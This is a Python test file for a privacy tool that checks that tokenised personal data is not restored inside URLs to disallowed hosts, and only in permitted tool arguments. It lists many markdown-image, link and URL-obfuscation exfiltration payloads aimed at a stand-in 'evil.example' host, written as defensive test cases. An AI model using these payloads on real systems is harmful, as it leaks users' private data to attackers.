"""Where a value may stand: addresses of other hosts, arguments of tools, tokens nobody gave out."""

from __future__ import annotations

import itertools
import re

import pytest
from bodies import SHIELD
from hypothesis import given, settings
from hypothesis import strategies as st

from privkit import UnknownTokenError
from privkit.conversation import Conversation
from privkit.llm._settings import Counts, Settings
from privkit.llm._walks import Answers
from privkit.tokens import Restoration

CHAT = SHIELD.conversation("gate")
TOKEN = CHAT.protect("jane@example.com")
SMALL = TOKEN.lower()


def answers(chat: Conversation = CHAT, *, counts: Counts | None = None, **options: object) -> Answers:
    return Answers(chat, Settings(hosts=["good.example", "*.wide.example"], **options), counts or Counts())  # type: ignore[arg-type]


def restored(text: str, chat: Conversation = CHAT) -> str:
    return answers(chat).for_user(text).feed(text, last=True)


MAIL, QUOTED = "jane@example.com", "jane%40example.com"
# The text with T for the token, and what becomes of it: T stays, M is the value, Q the value percent-encoded.
ROWS = [
    ("Write to T.", "Write to M."),
    ("![x](https://evil.example/?q=T)", "![x](https://evil.example/?q=T)"),
    ("![x](<https://evil.example/a b?q=T>) T", "![x](<https://evil.example/a b?q=T>) M"),
    ("![x](//evil.example/T) T", "![x](//evil.example/T) M"),
    ("[T](https://evil.example/) T", "[M](https://evil.example/) M"),
    ("<img src='https://evil.example/ ?q=T'> T", "<img src='https://evil.example/ ?q=T'> M"),
    ('<a href="https://evil.example/">T</a>', '<a href="https://evil.example/">M</a>'),
    ("<img src=https://evil.example/T> T", "<img src=https://evil.example/T> M"),
    ("https://evil.example/T and T", "https://evil.example/T and M"),
    ("https:evil.example/T", "https:evil.example/T"),
    (r"https:\\evil.example\T", r"https:\\evil.example\T"),
    ("HTTPS&#58;//evil.example/?T", "HTTPS&#58;//evil.example/?T"),
    ("www.evil.example/T", "www.evil.example/T"),
    ("https://T.evil.example/", "https://T.evil.example/"),
    ("https://T", "https://T"),
    ("https://T@good.example/", "https://T@good.example/"),
    ("https://good.example/a?q=T", "https://good.example/a?q=Q"),
    ("https://good.example:8443/T", "https://good.example:8443/Q"),
    ("https://user@good.example/T", "https://user@good.example/Q"),
    ("https://good.example@evil.example/T", "https://good.example@evil.example/T"),
    ("https://good.example.evil.example/T", "https://good.example.evil.example/T"),
    ("https://a.b.wide.example/T", "https://a.b.wide.example/Q"),
    ("https://wide.example/T", "https://wide.example/T"),
    (
        "https://good.example/?next=https://evil.example/T",
        "https://good.example/?next=https://evil.example/T",
    ),
    ("![x][a]\n\n[a]: https://evil.example/T", "![x][a]\n\n[a]: https://evil.example/T"),
    ("mailto:T", "mailto:M"),
    ("(see https://good.example/) T", "(see https://good.example/) M"),
    ("and/or T, and / T // T", "and/or M, and / M // M"),
    ('{"url": "https://evil.example/", "to": "T"}', '{"url": "https://evil.example/", "to": "M"}'),
    ('{"url":"https://evil.example/","to":"T"}', '{"url":"https://evil.example/","to":"M"}'),
    ("https://evil.example/" + "a" * 9000 + "/T", "https://evil.example/" + "a" * 9000 + "/T"),
]


MARK = re.compile(r"(?<![A-Za-z])[TMQ](?![A-Za-z])")


def filled(row: str) -> str:
    return MARK.sub(lambda mark: {"T": TOKEN, "M": MAIL, "Q": QUOTED}[mark[0]], row)


@pytest.mark.parametrize(("text", "wanted"), ROWS, ids=lambda each: each[:40])
def test_values_stay_tokens_in_addresses_of_hosts_that_are_not_allowed(text: str, wanted: str) -> None:
    assert restored(filled(text)) == filled(wanted)


PIECES = [
    "https://",
    "//",
    "good.example",
    "evil.example",
    "/",
    "?q=",
    "@",
    " ",
    "\n",
    "(",
    ")",
    "<",
    ">",
    '"',
    "'",
    TOKEN,
    SMALL,
    "![x](",
    "www.",
    "&#58;",
    "a" * 40,
    "PERSON_7_zob",
    "_",
    ".",
    "x",
]


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.lists(st.integers(1, 9), max_size=30))
def test_the_same_values_stay_tokens_however_the_text_is_cut(text: str, sizes: list[int]) -> None:
    whole = restored(text)
    restoration, at, out = answers().for_user(text), 0, []
    for size in [*sizes, len(text)]:
        out.append(restoration.feed(text[at : at + size]))
        at += size
    assert "".join(out) + restoration.finish() == whole


def of_tool(tools: object, source: str) -> str:
    restoration: Restoration = answers(tools=tools).for_tool("send")
    return restoration.feed(source, last=True)


ARGUMENTS = '{"to": "T", "body": {"to": "T"}, "list": ["T"], "a\\"b": "T", "T": 1}'
TOOLS = [
    (None, "T T T T T"),
    ([], "T T T T T"),
    (["look_up"], "T T T T T"),
    (["send"], "M M M M M"),
    ({"send": True}, "M M M M M"),
    ({"send": False, "*": True}, "T T T T T"),
    ({"*": ["to"]}, "M T T T T"),
    ({"send": ["body"]}, "T M T T T"),
    ({"send": ["list", "to"]}, "M T M T T"),
]


@pytest.mark.parametrize(("tools", "wanted"), TOOLS, ids=str)
def test_arguments_get_values_only_by_tool_and_name(tools: object, wanted: str) -> None:
    places = iter({"T": TOKEN, "M": MAIL}[each] for each in wanted.split())
    expected = "".join(
        part if part != TOKEN else next(places) for part in split(ARGUMENTS.replace("T", TOKEN))
    )
    assert of_tool(tools, ARGUMENTS.replace("T", TOKEN)) == expected


def split(text: str) -> list[str]:
    parts = text.split(TOKEN)
    return [part for at, each in enumerate(parts) for part in ([TOKEN, each] if at else [each])]


def test_tokens_of_others_are_counted_dropped_or_raised() -> None:
    others = (
        SHIELD.conversation(f"{n}", tenant="else").protect("roe@example.com") for n in itertools.count()
    )
    other = next(each for each in others if each not in CHAT)  # whose letters are not the same by chance
    text = f"A PERSON_7_zob {other} {TOKEN}"
    counts = Counts()
    kept = answers(counts=counts).for_user(text)
    assert kept.feed(text, last=True) == text.replace(TOKEN, MAIL)
    assert counts.unknown == 2
    assert answers(unknown_tokens="drop").for_user("").feed(text, last=True) == f"A   {MAIL}"
    with pytest.raises(UnknownTokenError):
        answers(unknown_tokens="raise").for_user("").feed(text, last=True)


def test_after_too_many_guesses_nothing_more_is_restored() -> None:
    guesses = " ".join(f"EMAIL_ADDRESS_{number}_zob" for number in range(2, 40))
    text = f"{TOKEN} {guesses} {TOKEN}"
    assert restored(text) == text.replace(TOKEN, MAIL)
    limited = answers(most_unknown=20).for_user("").feed(text, last=True)
    assert limited == f"{MAIL} {guesses} {TOKEN}"


def test_a_value_that_looks_like_a_token_is_not_looked_at_again() -> None:
    chat = SHIELD.conversation("alike")
    first = chat.protect("jane@example.com")
    alike = chat.protect(f"{first[:-3]}zob")
    assert alike not in (first, f"{first[:-3]}zob")
    assert restored(f"{alike} {first}", chat) == f"{first[:-3]}zob jane@example.com"
